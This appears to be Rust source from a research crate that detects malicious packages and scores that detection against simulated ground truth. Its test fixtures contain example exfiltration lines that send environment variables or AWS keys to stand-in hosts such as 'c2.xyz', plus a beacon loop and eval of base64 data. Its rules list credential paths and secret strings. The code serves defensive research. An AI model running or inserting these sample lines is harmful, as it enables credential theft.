        let verdict = DynamicDetector::default().analyze_source(":::");
        assert!(!verdict.malicious());
    }

    #[test]
    fn apis_are_reported_for_forensics() {
        let detector = DynamicDetector::default();
        let module = minilang::parse(
            "import os\nimport requests\nrequests.post('http://c2.xyz', os.environ())\n",
        )
        .unwrap();
        let verdict = detector.analyze(&module);
        assert!(verdict.malicious());
        assert!(verdict.apis.iter().any(|a| a == "requests.post"));
        assert!(verdict.apis.iter().any(|a| a == "os.environ"));
    }

    #[test]
    fn beacon_loops_are_caught_despite_fuel_exhaustion() {
        let detector = DynamicDetector::new(400);
        let module = minilang::parse(
            "import socket\nwhile True:\n    socket.gethostbyname('probe.evil.xyz')\n",
        )
        .unwrap();
        let verdict = detector.analyze(&module);
        assert!(verdict.labels.contains(&BehaviorLabel::Beacon));
    }
}
