//! Malicious-package detectors, and the experiment behind the paper's
//! second finding.
//!
//! The paper concludes that "today's defense tools work well because
//! malicious packages use old and known attack behaviors" (§I, §IV-C).
//! This crate makes that claim testable inside the reproduction:
//!
//! * [`rules`] — static AST/metadata rules in the GuardDog style
//!   (suspicious import combinations, install-time hooks, `eval` of
//!   remote content, credential paths, typosquatting…);
//! * [`static_detector`] — a weighted-rule scanner over package code;
//! * [`dynamic`] — a sandbox detector over [`minilang::interp`] effect
//!   traces (exfiltration flows, download-and-execute chains, reverse
//!   shells…), which also *labels* the behaviour family;
//! * [`eval`] — precision/recall against the simulator's ground truth,
//!   per behaviour family — the quantified version of the paper's
//!   insight;
//! * [`cache`] — parse + sandbox memoisation by source text, so the
//!   evaluation harness analyses each distinct program once however
//!   many releases carry it.
//!
//! # Examples
//!
//! ```
//! use detector::{StaticDetector, Verdict};
//! use minilang::parse;
//!
//! let code = "import os\nimport requests\n\ndef go():\n    \
//!             requests.post('http://x.xyz', os.environ())\n\ntry:\n    go()\nexcept:\n    pass\n";
//! let module = parse(code)?;
//! let verdict = StaticDetector::default().scan(&module, None);
//! assert!(verdict.malicious);
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod cache;
pub mod dynamic;
pub mod eval;
pub mod rules;
pub mod static_detector;

pub use cache::SandboxCache;
pub use dynamic::{BehaviorLabel, DynamicDetector};
pub use eval::{evaluate_world, evaluate_world_cached, DetectionReport};
pub use rules::RuleId;
pub use static_detector::{StaticDetector, Verdict};
