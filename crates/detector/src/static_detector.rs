//! The weighted-rule static scanner.

use crate::rules::{matched_rules, RuleId};
use minilang::Module;
use oss_types::PackageName;

/// A scan result.
#[derive(Debug, Clone, PartialEq)]
pub struct Verdict {
    /// Whether the score crossed the threshold.
    pub malicious: bool,
    /// Total rule-weight score.
    pub score: f64,
    /// The rules that matched.
    pub matched: Vec<RuleId>,
}

/// A GuardDog-style static scanner: rules match independently, weights
/// add up, a threshold decides.
#[derive(Debug, Clone)]
pub struct StaticDetector {
    threshold: f64,
}

impl StaticDetector {
    /// Creates a detector with an explicit decision threshold.
    pub fn new(threshold: f64) -> Self {
        StaticDetector { threshold }
    }

    /// The decision threshold.
    pub fn threshold(&self) -> f64 {
        self.threshold
    }

    /// Scans a module (plus the package name, when known, for the
    /// typosquat rule).
    pub fn scan(&self, module: &Module, package_name: Option<&PackageName>) -> Verdict {
        self.decide(matched_rules(module, package_name))
    }

    /// Scores an already-matched rule set against the threshold — the
    /// decision half of [`StaticDetector::scan`], split out so callers
    /// that cache [`crate::rules::module_rule_hits`] per source text can
    /// still produce (and count) one verdict per package.
    pub fn decide(&self, matched: Vec<RuleId>) -> Verdict {
        let score: f64 = matched.iter().map(|r| r.weight()).sum();
        let malicious = score >= self.threshold;
        obs::counter_add("detector.static_scans", 1);
        if malicious {
            obs::counter_add("detector.static_malicious", 1);
        }
        Verdict {
            malicious,
            score,
            matched,
        }
    }

    /// Scans source text; unparseable code is *suspicious but unscored*
    /// (real scanners flag obfuscation separately) and returns a
    /// non-malicious verdict with no matches.
    pub fn scan_source(&self, source: &str, package_name: Option<&PackageName>) -> Verdict {
        match minilang::parse(source) {
            Ok(module) => self.scan(&module, package_name),
            Err(_) => Verdict {
                malicious: false,
                score: 0.0,
                matched: Vec::new(),
            },
        }
    }
}

impl Default for StaticDetector {
    /// Threshold 4.0: one strong signal plus one weak one, or any two
    /// mid-weight signals. Calibrated on the generator's benign corpus to
    /// a ~0% false-positive rate (see the eval tests).
    fn default() -> Self {
        StaticDetector::new(4.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use minilang::gen::{generate, generate_benign, Behavior};
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn catches_every_generated_behavior_family() {
        let detector = StaticDetector::default();
        let mut rng = StdRng::seed_from_u64(1);
        for behavior in Behavior::ALL {
            let mut caught = 0;
            for _ in 0..10 {
                let module = generate(behavior, &mut rng);
                if detector.scan(&module, None).malicious {
                    caught += 1;
                }
            }
            assert!(
                caught >= 8,
                "{behavior}: static detector caught only {caught}/10"
            );
        }
    }

    #[test]
    fn benign_corpus_is_clean() {
        let detector = StaticDetector::default();
        let mut rng = StdRng::seed_from_u64(2);
        let mut false_positives = 0;
        for _ in 0..50 {
            let module = generate_benign(&mut rng);
            if detector.scan(&module, None).malicious {
                false_positives += 1;
            }
        }
        assert!(
            false_positives <= 1,
            "{false_positives}/50 benign modules flagged"
        );
    }

    #[test]
    fn threshold_monotonicity() {
        let mut rng = StdRng::seed_from_u64(3);
        let module = generate(Behavior::ExfilAws, &mut rng);
        let loose = StaticDetector::new(1.0).scan(&module, None);
        let strict = StaticDetector::new(100.0).scan(&module, None);
        assert!(loose.malicious);
        assert!(!strict.malicious);
        assert_eq!(loose.matched, strict.matched, "matching is threshold-free");
        assert_eq!(loose.score, strict.score);
    }

    #[test]
    fn unparseable_source_does_not_panic() {
        let v = StaticDetector::default().scan_source("not ( valid", None);
        assert!(!v.malicious);
        assert!(v.matched.is_empty());
    }

    #[test]
    fn score_is_sum_of_matched_weights() {
        let mut rng = StdRng::seed_from_u64(4);
        let module = generate(Behavior::Backdoor, &mut rng);
        let v = StaticDetector::default().scan(&module, None);
        let expected: f64 = v.matched.iter().map(|r| r.weight()).sum();
        assert!((v.score - expected).abs() < 1e-9);
    }
}
