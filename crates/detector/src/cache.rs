//! Source-text memoisation for the parse + sandbox pipeline.
//!
//! Campaign re-releases duplicate code by design: at the default corpus
//! scale the world's ~20k package releases carry only ~12k distinct
//! source texts, and every dataset archive's code string also appears
//! verbatim among the world sources. A dynamic verdict depends only on
//! the source text — the interpreter is deterministic and takes no
//! per-package input — so memoising `(parse, sandbox)` by source
//! collapses ~29k interpreter runs across the detection experiment into
//! ~12k.
//!
//! Static *verdicts* are deliberately not cached here: the typosquat
//! rule reads the package *name*, so the decision stays per-package.
//! But every other rule reads only the module, so the cache memoises
//! the module-only rule hits alongside the parse — callers re-add the
//! name rule and score per package (see
//! [`crate::eval::evaluate_world_cached`]).

use crate::dynamic::{BehaviorLabel, DynamicDetector, DynamicVerdict};
use crate::rules::{self, RuleId};
use minilang::Module;
use std::collections::HashMap;
use std::sync::Arc;

/// One memoised parse + sandbox run.
#[derive(Debug, Clone)]
pub struct SandboxRun {
    /// The parsed module; `None` when the source does not parse.
    pub module: Option<Arc<Module>>,
    /// The sandbox verdict, with [`DynamicDetector::analyze_source`]
    /// semantics: unparseable code yields a clean verdict with no APIs.
    pub verdict: DynamicVerdict,
    /// Module-only static rule hits ([`rules::module_rule_hits`]);
    /// empty when the source does not parse.
    pub module_hits: Vec<RuleId>,
}

/// A parse + sandbox cache keyed by source text.
///
/// # Examples
///
/// ```
/// use detector::cache::SandboxCache;
///
/// let mut cache = SandboxCache::default();
/// let first = cache.run("import os\nos.getenv('K')\n").verdict.clone();
/// let again = cache.run("import os\nos.getenv('K')\n").verdict.clone();
/// assert_eq!(first, again);
/// assert_eq!(cache.len(), 1);
/// ```
#[derive(Debug, Default)]
pub struct SandboxCache {
    detector: DynamicDetector,
    entries: HashMap<String, SandboxRun>,
}

impl SandboxCache {
    /// Creates a cache that sandboxes misses with `detector`.
    pub fn new(detector: DynamicDetector) -> Self {
        SandboxCache {
            detector,
            entries: HashMap::new(),
        }
    }

    /// Parses and sandboxes `source`, memoised: the first call per
    /// distinct text runs the interpreter, every later call is a map
    /// lookup returning the identical result.
    pub fn run(&mut self, source: &str) -> &SandboxRun {
        if self.entries.contains_key(source) {
            obs::counter_add("detector.sandbox_cache_hits", 1);
        } else {
            obs::counter_add("detector.sandbox_runs", 1);
            let run = match minilang::parse(source) {
                Ok(module) => {
                    let verdict = self.detector.analyze(&module);
                    let module_hits = rules::module_rule_hits(&module);
                    SandboxRun {
                        module: Some(Arc::new(module)),
                        verdict,
                        module_hits,
                    }
                }
                Err(_) => SandboxRun {
                    module: None,
                    verdict: DynamicVerdict {
                        labels: vec![BehaviorLabel::Clean],
                        apis: Vec::new(),
                    },
                    module_hits: Vec::new(),
                },
            };
            self.entries.insert(source.to_owned(), run);
        }
        &self.entries[source]
    }

    /// Number of distinct source texts analysed so far.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether the cache has analysed anything yet.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cached_verdicts_match_direct_analysis() {
        let detector = DynamicDetector::default();
        let mut cache = SandboxCache::new(detector.clone());
        let sources = [
            "import os\nimport requests\nrequests.post('http://c2.xyz', os.environ())\n",
            "x = 1\ny = x + 1\n",
            ":::",
        ];
        for src in sources {
            assert_eq!(cache.run(src).verdict, detector.analyze_source(src), "{src:?}");
            // Second hit returns the same memoised result.
            assert_eq!(cache.run(src).verdict, detector.analyze_source(src));
        }
        assert_eq!(cache.len(), sources.len());
    }

    #[test]
    fn unparseable_source_has_no_module() {
        let mut cache = SandboxCache::default();
        let run = cache.run(":::");
        assert!(run.module.is_none());
        assert!(!run.verdict.malicious());
    }

    #[test]
    fn parsed_module_is_shared() {
        let mut cache = SandboxCache::default();
        let first = cache.run("a = 1\n").module.clone().expect("parses");
        let second = cache.run("a = 1\n").module.clone().expect("parses");
        assert!(Arc::ptr_eq(&first, &second));
    }
}
