//! Detector evaluation against simulator ground truth.
//!
//! The paper's second finding — "today's defense tools work well because
//! malicious packages use old and known attack behaviors" — is a claim
//! about detector recall on the in-the-wild corpus. The simulator knows
//! which packages are malicious and which behaviour family each carries,
//! so this harness measures exactly that: per-family recall and overall
//! precision/recall for the static and dynamic detectors.

use crate::cache::SandboxCache;
use crate::dynamic::{expected_label, DynamicDetector};
use crate::static_detector::StaticDetector;
use minilang::gen::Behavior;
use registry_sim::World;
use std::collections::HashMap;
use std::fmt;

/// Precision/recall summary of one detector.
#[derive(Debug, Clone, PartialEq)]
pub struct PrScores {
    /// True positives.
    pub tp: usize,
    /// False positives.
    pub fp: usize,
    /// False negatives.
    pub fn_: usize,
    /// True negatives.
    pub tn: usize,
}

impl PrScores {
    /// Precision in `[0, 1]`; 1.0 when nothing was flagged.
    pub fn precision(&self) -> f64 {
        if self.tp + self.fp == 0 {
            1.0
        } else {
            self.tp as f64 / (self.tp + self.fp) as f64
        }
    }

    /// Recall in `[0, 1]`; 1.0 when nothing was malicious.
    pub fn recall(&self) -> f64 {
        if self.tp + self.fn_ == 0 {
            1.0
        } else {
            self.tp as f64 / (self.tp + self.fn_) as f64
        }
    }

    /// F1 score.
    pub fn f1(&self) -> f64 {
        let p = self.precision();
        let r = self.recall();
        if p + r == 0.0 {
            0.0
        } else {
            2.0 * p * r / (p + r)
        }
    }
}

/// Full evaluation report.
#[derive(Debug, Clone, PartialEq)]
pub struct DetectionReport {
    /// Static-scanner scores.
    pub static_scores: PrScores,
    /// Sandbox scores.
    pub dynamic_scores: PrScores,
    /// Static recall per ground-truth behaviour family.
    pub static_recall_by_behavior: HashMap<Behavior, (usize, usize)>,
    /// Dynamic *labelling accuracy* per family: how often the sandbox
    /// inferred the correct behaviour label.
    pub dynamic_label_accuracy: HashMap<Behavior, (usize, usize)>,
    /// Packages whose code could not be analysed (no archive).
    pub skipped_unavailable: usize,
}

impl fmt::Display for DetectionReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(
            f,
            "static  : precision {:.3} recall {:.3} f1 {:.3}",
            self.static_scores.precision(),
            self.static_scores.recall(),
            self.static_scores.f1()
        )?;
        writeln!(
            f,
            "dynamic : precision {:.3} recall {:.3} f1 {:.3}",
            self.dynamic_scores.precision(),
            self.dynamic_scores.recall(),
            self.dynamic_scores.f1()
        )?;
        let mut behaviors: Vec<_> = self.static_recall_by_behavior.iter().collect();
        behaviors.sort_by_key(|(b, _)| format!("{b}"));
        for (behavior, (hit, total)) in behaviors {
            let (lhit, ltotal) = self
                .dynamic_label_accuracy
                .get(behavior)
                .copied()
                .unwrap_or((0, 0));
            writeln!(
                f,
                "{:<18} static {:>3}/{:<3} · sandbox label {:>3}/{:<3}",
                behavior.label(),
                hit,
                total,
                lhit,
                ltotal
            )?;
        }
        write!(f, "unavailable (skipped): {}", self.skipped_unavailable)
    }
}

/// Evaluates both detectors over every package in the world that carries
/// code: malicious releases are positives; trojan pre-payload versions
/// and dependency-attack fronts are the (hard) negatives.
pub fn evaluate_world(world: &World) -> DetectionReport {
    let static_detector = StaticDetector::default();
    let dynamic_detector = DynamicDetector::default();

    let mut static_scores = PrScores {
        tp: 0,
        fp: 0,
        fn_: 0,
        tn: 0,
    };
    let mut dynamic_scores = static_scores.clone();
    let mut static_recall: HashMap<Behavior, (usize, usize)> = HashMap::new();
    let mut label_accuracy: HashMap<Behavior, (usize, usize)> = HashMap::new();
    let mut skipped = 0usize;

    for pkg in &world.packages {
        let Ok(module) = minilang::parse(&pkg.source_text) else {
            skipped += 1;
            continue;
        };
        let truth_malicious = pkg.behavior.is_some();

        let sv = static_detector.scan(&module, Some(pkg.id.name()));
        match (truth_malicious, sv.malicious) {
            (true, true) => static_scores.tp += 1,
            (true, false) => static_scores.fn_ += 1,
            (false, true) => static_scores.fp += 1,
            (false, false) => static_scores.tn += 1,
        }
        let dv = dynamic_detector.analyze(&module);
        match (truth_malicious, dv.malicious()) {
            (true, true) => dynamic_scores.tp += 1,
            (true, false) => dynamic_scores.fn_ += 1,
            (false, true) => dynamic_scores.fp += 1,
            (false, false) => dynamic_scores.tn += 1,
        }

        if let Some(behavior) = pkg.behavior {
            let entry = static_recall.entry(behavior).or_default();
            entry.1 += 1;
            if sv.malicious {
                entry.0 += 1;
            }
            let lentry = label_accuracy.entry(behavior).or_default();
            lentry.1 += 1;
            if dv.labels.contains(&expected_label(behavior)) {
                lentry.0 += 1;
            }
        }
    }

    DetectionReport {
        static_scores,
        dynamic_scores,
        static_recall_by_behavior: static_recall,
        dynamic_label_accuracy: label_accuracy,
        skipped_unavailable: skipped,
    }
}

/// [`evaluate_world`] through a [`SandboxCache`]: parses, sandboxes and
/// gathers module-only rule hits for each *distinct* source text once.
/// Per package, only the name-dependent typosquat rule and the threshold
/// decision re-run ([`rules::matched_rules`] guarantees the name rule
/// sorts last, so the recomposed rule list is identical to a fresh
/// scan's). Produces a report equal to [`evaluate_world`]'s and shares
/// the cache with any caller that also sandboxes the collected archives.
pub fn evaluate_world_cached(world: &World, cache: &mut SandboxCache) -> DetectionReport {
    let static_detector = StaticDetector::default();

    let mut static_scores = PrScores {
        tp: 0,
        fp: 0,
        fn_: 0,
        tn: 0,
    };
    let mut dynamic_scores = static_scores.clone();
    let mut static_recall: HashMap<Behavior, (usize, usize)> = HashMap::new();
    let mut label_accuracy: HashMap<Behavior, (usize, usize)> = HashMap::new();
    let mut skipped = 0usize;

    for pkg in &world.packages {
        let run = cache.run(&pkg.source_text);
        if run.module.is_none() {
            skipped += 1;
            continue;
        }
        let truth_malicious = pkg.behavior.is_some();

        let mut hits = run.module_hits.clone();
        if crate::rules::name_is_squat(pkg.id.name()) {
            hits.push(crate::rules::RuleId::TyposquatName);
        }
        let sv = static_detector.decide(hits);
        match (truth_malicious, sv.malicious) {
            (true, true) => static_scores.tp += 1,
            (true, false) => static_scores.fn_ += 1,
            (false, true) => static_scores.fp += 1,
            (false, false) => static_scores.tn += 1,
        }
        let dv = &run.verdict;
        match (truth_malicious, dv.malicious()) {
            (true, true) => dynamic_scores.tp += 1,
            (true, false) => dynamic_scores.fn_ += 1,
            (false, true) => dynamic_scores.fp += 1,
            (false, false) => dynamic_scores.tn += 1,
        }

        if let Some(behavior) = pkg.behavior {
            let entry = static_recall.entry(behavior).or_default();
            entry.1 += 1;
            if sv.malicious {
                entry.0 += 1;
            }
            let lentry = label_accuracy.entry(behavior).or_default();
            lentry.1 += 1;
            if dv.labels.contains(&expected_label(behavior)) {
                lentry.0 += 1;
            }
        }
    }

    DetectionReport {
        static_scores,
        dynamic_scores,
        static_recall_by_behavior: static_recall,
        dynamic_label_accuracy: label_accuracy,
        skipped_unavailable: skipped,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use registry_sim::WorldConfig;

    #[test]
    fn detectors_validate_the_papers_second_finding() {
        let world = World::generate(WorldConfig::small(77));
        let report = evaluate_world(&world);
        // "Today's defense tools work well": recall must be high on the
        // known behaviour families…
        assert!(
            report.static_scores.recall() > 0.9,
            "static recall {:.3}",
            report.static_scores.recall()
        );
        assert!(
            report.dynamic_scores.recall() > 0.9,
            "dynamic recall {:.3}",
            report.dynamic_scores.recall()
        );
        // …without flooding analysts with false positives.
        assert!(
            report.static_scores.precision() > 0.9,
            "static precision {:.3}",
            report.static_scores.precision()
        );
        assert!(
            report.dynamic_scores.precision() > 0.95,
            "dynamic precision {:.3}",
            report.dynamic_scores.precision()
        );
    }

    #[test]
    fn every_behavior_family_is_covered() {
        let world = World::generate(WorldConfig::small(78));
        let report = evaluate_world(&world);
        for behavior in Behavior::ALL {
            if let Some(&(hit, total)) = report.static_recall_by_behavior.get(&behavior) {
                assert!(
                    hit * 10 >= total * 7,
                    "{behavior}: static recall {hit}/{total}"
                );
            }
        }
    }

    #[test]
    fn negatives_exist_in_the_evaluation() {
        // Trojan pre-payload versions and dependency fronts provide real
        // negatives — an evaluation without them would be vacuous.
        let world = World::generate(WorldConfig::small(79));
        let report = evaluate_world(&world);
        let negatives = report.static_scores.tn + report.static_scores.fp;
        assert!(negatives > 5, "only {negatives} benign packages evaluated");
    }

    #[test]
    fn cached_evaluation_matches_reference() {
        let world = World::generate(WorldConfig::small(77));
        let reference = evaluate_world(&world);
        let mut cache = SandboxCache::default();
        let cached = evaluate_world_cached(&world, &mut cache);
        assert_eq!(cached, reference);
        assert!(
            cache.len() <= world.packages.len(),
            "cache holds at most one entry per distinct source"
        );
        // Running again over a warm cache is still identical.
        assert_eq!(evaluate_world_cached(&world, &mut cache), reference);
    }

    #[test]
    fn pr_scores_math() {
        let s = PrScores {
            tp: 8,
            fp: 2,
            fn_: 2,
            tn: 88,
        };
        assert!((s.precision() - 0.8).abs() < 1e-9);
        assert!((s.recall() - 0.8).abs() < 1e-9);
        assert!((s.f1() - 0.8).abs() < 1e-9);
        let empty = PrScores {
            tp: 0,
            fp: 0,
            fn_: 0,
            tn: 1,
        };
        assert_eq!(empty.precision(), 1.0);
        assert_eq!(empty.recall(), 1.0);
    }
}
