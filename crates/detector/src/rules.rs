//! Static detection rules over PyLite ASTs and package metadata.

use minilang::ast::{Expr, Module, Stmt};
use oss_types::PackageName;
use std::collections::HashSet;
use std::fmt;

/// A static rule identifier.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum RuleId {
    /// Imports a network library (`requests`, `socket`).
    NetworkImport,
    /// Reads the environment or credentials (`os.environ`, `os.getenv`).
    EnvRead,
    /// References secret-looking names (`AWS_…`, `SECRET`, `TOKEN`).
    SecretStrings,
    /// Top-level `try:`/`except: pass` wrapping a call — the classic
    /// silent install-time hook.
    SilentInstallHook,
    /// `eval` of data.
    EvalUsage,
    /// Spawns processes (`subprocess`).
    SubprocessUsage,
    /// Touches the clipboard.
    ClipboardAccess,
    /// Globs browser/credential storage paths.
    CredentialPaths,
    /// Decodes base64 blobs (staged payloads).
    Base64Decode,
    /// Unbounded `while True:` loop (beacons, hijack poll loops).
    UnboundedLoop,
    /// Hard-coded low-reputation URL (`.xyz`, `.top`, raw `http://`).
    SuspiciousUrl,
    /// Package name within edit distance 2 of a popular package.
    TyposquatName,
}

impl RuleId {
    /// All rules.
    pub const ALL: [RuleId; 12] = [
        RuleId::NetworkImport,
        RuleId::EnvRead,
        RuleId::SecretStrings,
        RuleId::SilentInstallHook,
        RuleId::EvalUsage,
        RuleId::SubprocessUsage,
        RuleId::ClipboardAccess,
        RuleId::CredentialPaths,
        RuleId::Base64Decode,
        RuleId::UnboundedLoop,
        RuleId::SuspiciousUrl,
        RuleId::TyposquatName,
    ];

    /// Rule weight: how strongly a hit indicates malice. Individually
    /// weak signals (network import) score low; combinations add up.
    pub fn weight(self) -> f64 {
        match self {
            RuleId::NetworkImport => 1.0,
            RuleId::EnvRead => 1.5,
            RuleId::SecretStrings => 2.5,
            RuleId::SilentInstallHook => 2.5,
            RuleId::EvalUsage => 3.0,
            RuleId::SubprocessUsage => 1.5,
            RuleId::ClipboardAccess => 2.0,
            RuleId::CredentialPaths => 3.0,
            RuleId::Base64Decode => 1.5,
            RuleId::UnboundedLoop => 1.0,
            RuleId::SuspiciousUrl => 2.0,
            RuleId::TyposquatName => 1.5,
        }
    }

    /// Short label for reports.
    pub fn label(self) -> &'static str {
        match self {
            RuleId::NetworkImport => "network-import",
            RuleId::EnvRead => "env-read",
            RuleId::SecretStrings => "secret-strings",
            RuleId::SilentInstallHook => "silent-install-hook",
            RuleId::EvalUsage => "eval-usage",
            RuleId::SubprocessUsage => "subprocess-usage",
            RuleId::ClipboardAccess => "clipboard-access",
            RuleId::CredentialPaths => "credential-paths",
            RuleId::Base64Decode => "base64-decode",
            RuleId::UnboundedLoop => "unbounded-loop",
            RuleId::SuspiciousUrl => "suspicious-url",
            RuleId::TyposquatName => "typosquat-name",
        }
    }
}

impl fmt::Display for RuleId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

/// Evaluates every rule against a module (and optionally the package
/// name, for the typosquat rule). Returns the matched rules.
pub fn matched_rules(module: &Module, package_name: Option<&PackageName>) -> Vec<RuleId> {
    let mut hits = module_rule_hits(module);
    if let Some(name) = package_name {
        if name_is_squat(name) {
            hits.push(RuleId::TyposquatName);
        }
    }
    hits
}

/// The module-dependent rules alone — everything except
/// [`RuleId::TyposquatName`], which is the only rule that reads the
/// package name and is always appended last. Cacheable per source text:
/// `matched_rules(m, Some(n))` ≡ `module_rule_hits(m)` plus the name
/// rule.
pub fn module_rule_hits(module: &Module) -> Vec<RuleId> {
    let facts = Facts::gather(module);
    let mut hits = Vec::new();
    if facts.imports.iter().any(|m| m == "requests" || m == "socket") {
        hits.push(RuleId::NetworkImport);
    }
    if facts.api_touches.iter().any(|a| {
        a == "os.environ" || a == "os.getenv" || a.starts_with("os.environ")
    }) {
        hits.push(RuleId::EnvRead);
    }
    if facts.strings.iter().any(|s| {
        let upper = s.to_ascii_uppercase();
        upper.contains("AWS_") || upper.contains("SECRET") || upper.contains("TOKEN")
    }) {
        hits.push(RuleId::SecretStrings);
    }
    if facts.silent_hook {
        hits.push(RuleId::SilentInstallHook);
    }
    if facts.calls_eval {
        hits.push(RuleId::EvalUsage);
    }
    if facts.imports.iter().any(|m| m == "subprocess") {
        hits.push(RuleId::SubprocessUsage);
    }
    if facts.imports.iter().any(|m| m == "clipboard") {
        hits.push(RuleId::ClipboardAccess);
    }
    if facts
        .strings
        .iter()
        .any(|s| s.contains("Login Data") || s.contains(".config/") || s.contains(".ssh"))
    {
        hits.push(RuleId::CredentialPaths);
    }
    if facts.imports.iter().any(|m| m == "base64") {
        hits.push(RuleId::Base64Decode);
    }
    if facts.unbounded_loop {
        hits.push(RuleId::UnboundedLoop);
    }
    if facts.strings.iter().any(|s| {
        s.starts_with("http://")
            || s.starts_with("stratum://")
            || s.ends_with(".xyz")
            || s.ends_with(".top")
    }) {
        hits.push(RuleId::SuspiciousUrl);
    }
    hits
}

/// Whether `name` is within typosquat distance of a popular registry
/// package — the [`RuleId::TyposquatName`] predicate. The popular-target
/// list is parsed once and reused across every scan.
pub fn name_is_squat(name: &PackageName) -> bool {
    static TARGETS: std::sync::OnceLock<Vec<PackageName>> = std::sync::OnceLock::new();
    TARGETS
        .get_or_init(|| {
            registry_sim::names::POPULAR_TARGETS
                .iter()
                .map(|t| PackageName::new(t).expect("popular targets are valid"))
                .collect()
        })
        .iter()
        .any(|target| name.is_typosquat_of(target))
}

/// Syntactic facts extracted in one AST walk.
#[derive(Debug, Default)]
struct Facts {
    imports: HashSet<String>,
    api_touches: HashSet<String>,
    strings: Vec<String>,
    silent_hook: bool,
    calls_eval: bool,
    unbounded_loop: bool,
}

impl Facts {
    fn gather(module: &Module) -> Facts {
        let mut facts = Facts::default();
        for stmt in &module.body {
            // Top-level try { call() } except { pass } — the hook shape.
            if let Stmt::Try { body, handler } = stmt {
                let calls = body
                    .iter()
                    .any(|s| matches!(s, Stmt::Expr(Expr::Call { .. })));
                let silent = handler.iter().all(|s| matches!(s, Stmt::Pass));
                if calls && silent {
                    facts.silent_hook = true;
                }
            }
            facts.walk_stmt(stmt);
        }
        facts
    }

    fn walk_stmt(&mut self, stmt: &Stmt) {
        match stmt {
            Stmt::Import { module, .. } => {
                self.imports
                    .insert(module.split('.').next().unwrap_or(module).to_owned());
            }
            Stmt::FromImport { module, .. } => {
                self.imports
                    .insert(module.split('.').next().unwrap_or(module).to_owned());
            }
            Stmt::Assign { target, value } => {
                self.walk_expr(target);
                self.walk_expr(value);
            }
            Stmt::Expr(e) | Stmt::Raise(e) => self.walk_expr(e),
            Stmt::Return(Some(e)) => self.walk_expr(e),
            Stmt::Return(None) | Stmt::Pass => {}
            Stmt::FunctionDef { body, .. } => {
                for s in body {
                    self.walk_stmt(s);
                }
            }
            Stmt::If { cond, body, orelse } => {
                self.walk_expr(cond);
                for s in body.iter().chain(orelse) {
                    self.walk_stmt(s);
                }
            }
            Stmt::For { iter, body, .. } => {
                self.walk_expr(iter);
                for s in body {
                    self.walk_stmt(s);
                }
            }
            Stmt::While { cond, body } => {
                if matches!(cond, Expr::Bool(true)) {
                    self.unbounded_loop = true;
                }
                self.walk_expr(cond);
                for s in body {
                    self.walk_stmt(s);
                }
            }
            Stmt::Try { body, handler } => {
                for s in body.iter().chain(handler) {
                    self.walk_stmt(s);
                }
            }
        }
    }

    fn walk_expr(&mut self, expr: &Expr) {
        match expr {
            Expr::Str(s) => self.strings.push(s.clone()),
            Expr::Call { callee, args } => {
                if let Expr::Name(n) = callee.as_ref() {
                    if n == "eval" || n == "exec" {
                        self.calls_eval = true;
                    }
                }
                if let Some(path) = dotted_path(callee) {
                    self.api_touches.insert(path);
                }
                self.walk_expr(callee);
                for a in args {
                    self.walk_expr(a);
                }
            }
            Expr::Attribute { value, .. } => {
                if let Some(path) = dotted_path(expr) {
                    self.api_touches.insert(path);
                }
                self.walk_expr(value);
            }
            Expr::Index { value, index } => {
                self.walk_expr(value);
                self.walk_expr(index);
            }
            Expr::Binary { lhs, rhs, .. } => {
                self.walk_expr(lhs);
                self.walk_expr(rhs);
            }
            Expr::Unary { operand, .. } => self.walk_expr(operand),
            Expr::List(items) => {
                for i in items {
                    self.walk_expr(i);
                }
            }
            Expr::Dict(pairs) => {
                for (k, v) in pairs {
                    self.walk_expr(k);
                    self.walk_expr(v);
                }
            }
            _ => {}
        }
    }
}

fn dotted_path(expr: &Expr) -> Option<String> {
    match expr {
        Expr::Name(n) => Some(n.clone()),
        Expr::Attribute { value, attr } => {
            let base = dotted_path(value)?;
            Some(format!("{base}.{attr}"))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use minilang::parse;

    fn rules_for(src: &str) -> Vec<RuleId> {
        matched_rules(&parse(src).unwrap(), None)
    }

    #[test]
    fn exfil_pattern_trips_the_expected_rules() {
        let hits = rules_for(
            "import os\nimport requests\nk = os.getenv('AWS_ACCESS_KEY_ID')\n\
             requests.post('http://x.xyz/u', k)\n",
        );
        assert!(hits.contains(&RuleId::NetworkImport));
        assert!(hits.contains(&RuleId::EnvRead));
        assert!(hits.contains(&RuleId::SecretStrings));
        assert!(hits.contains(&RuleId::SuspiciousUrl));
    }

    #[test]
    fn silent_hook_detection() {
        let hits = rules_for("def f():\n    pass\ntry:\n    f()\nexcept:\n    pass\n");
        assert!(hits.contains(&RuleId::SilentInstallHook));
        // A try block that handles errors with real code is not a hook.
        let hits = rules_for("try:\n    f()\nexcept:\n    log('fail')\n");
        assert!(!hits.contains(&RuleId::SilentInstallHook));
    }

    #[test]
    fn eval_and_base64_and_loop() {
        let hits = rules_for(
            "import base64\nd = base64.b64decode(x)\neval(d)\nwhile True:\n    pass\n",
        );
        assert!(hits.contains(&RuleId::EvalUsage));
        assert!(hits.contains(&RuleId::Base64Decode));
        assert!(hits.contains(&RuleId::UnboundedLoop));
    }

    #[test]
    fn clean_code_matches_nothing() {
        let hits = rules_for(
            "def add(items):\n    total = 0\n    for i in items:\n        total = total + i\n    return total\n",
        );
        assert!(hits.is_empty(), "clean code matched {hits:?}");
    }

    #[test]
    fn typosquat_rule_needs_the_name() {
        let module = parse("x = 1\n").unwrap();
        let squat: PackageName = "reqests".parse().unwrap();
        let honest: PackageName = "left-pad-utils".parse().unwrap();
        assert!(matched_rules(&module, Some(&squat)).contains(&RuleId::TyposquatName));
        assert!(!matched_rules(&module, Some(&honest)).contains(&RuleId::TyposquatName));
        assert!(!matched_rules(&module, None).contains(&RuleId::TyposquatName));
